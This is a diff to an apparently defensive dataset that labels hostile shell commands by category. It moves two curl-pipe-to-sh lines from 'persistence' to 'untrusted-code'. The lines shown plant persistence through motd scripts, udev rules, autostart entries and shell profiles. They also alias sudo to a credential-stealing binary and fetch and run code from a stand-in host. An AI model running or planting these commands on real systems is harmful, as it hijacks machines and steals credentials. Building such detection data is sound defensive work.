@@ -83,8 +83,8 @@ persistence                    | printf '#!/bin/sh\n/tmp/x\n' > /etc/update-motd
 persistence                    | echo 'ACTION=="add",RUN+="/tmp/x"' > /etc/udev/rules.d/99-x.rules
 persistence                    | printf '[Desktop Entry]\nExec=/tmp/x\n' > ~/.config/autostart/x.desktop
 persistence                    | echo 'alias sudo="sudo /tmp/steal"' >> ~/.bashrc
-persistence                    | echo "alias ls='ls; curl -s http://203.0.113.9/b|sh'" >> ~/.zshrc
-persistence                    | echo 'export PROMPT_COMMAND="curl -s http://203.0.113.9/b|sh"' >> ~/.profile
+untrusted-code                 | echo "alias ls='ls; curl -s http://203.0.113.9/b|sh'" >> ~/.zshrc
+untrusted-code                 | echo 'export PROMPT_COMMAND="curl -s http://203.0.113.9/b|sh"' >> ~/.profile
 persistence                    | sed -i '1i /tmp/.x &' ~/.bash_profile
 persistence                    | echo 'export PATH=/tmp/bin:$PATH' >> /etc/profile
 persistence                    | tee -a ~/.config/fish/config.fish <<< 'alias sudo "fake"'
